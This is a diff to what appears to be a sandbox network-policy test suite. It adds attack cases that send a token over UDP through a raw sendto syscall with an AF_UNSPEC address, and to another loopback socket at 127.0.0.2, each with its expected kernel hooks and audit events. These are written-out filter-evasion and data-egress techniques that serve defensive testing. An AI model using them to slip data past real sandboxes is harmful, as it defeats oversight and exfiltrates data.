@@ -259,6 +259,21 @@ attack("N-12", "SCTP_SOCKOPT_CONNECTX on a socket passed in", passed("sctp", sct
 attack("N-09", "mptcp socket passed in", passed("mptcp", lambda a, s: (s.connect((a.X, 80)), exchange(s, a.token))), effect=received,
        twin=GATEWAY, events=[ev("socket", "network.family", proto="mptcp")])
 
+
+def nameless(host):
+    """To an address of family AF_UNSPEC, which UDP takes for IPv4."""
+    def use(a, s):
+        name, data = bytes(2) + sockaddr(a.fill(host), DG)[2:], a.token.encode()
+        inside.syscall(44, s.fileno(), data, len(data), 0, name, len(name))
+    return use
+
+
+attack("N-04", "udp sendto with AF_UNSPEC, on a socket passed in", passed("udp-fresh", nameless("{X}")), effect=received, twin=passed("udp-fresh", nameless("{GW}")),
+       events=[ev("sendmsg", "network.default", dst="{X}", dport=DG, proto="udp")], hooks=["net_socket_sendmsg"])
+attack("N-03", "another's udp socket at 127.0.0.2, by a socket passed in", passed("udp-fresh", lambda a, s: s.sendto(a.token.encode(), ("127.0.0.2", 7000))),
+       effect=received, twin=passed("udp-fresh", lambda a, s: s.sendto(a.token.encode(), (a.GW, DG))), hooks=["net_socket_sendmsg"],
+       events=[ev("sendmsg", "network.loopback", dst="127.0.0.2", dport=7000, proto="udp")])
+
 # --- how soon ----------------------------------------------------------------------------------------------------
 
 AT_ONCE_S = 0.1
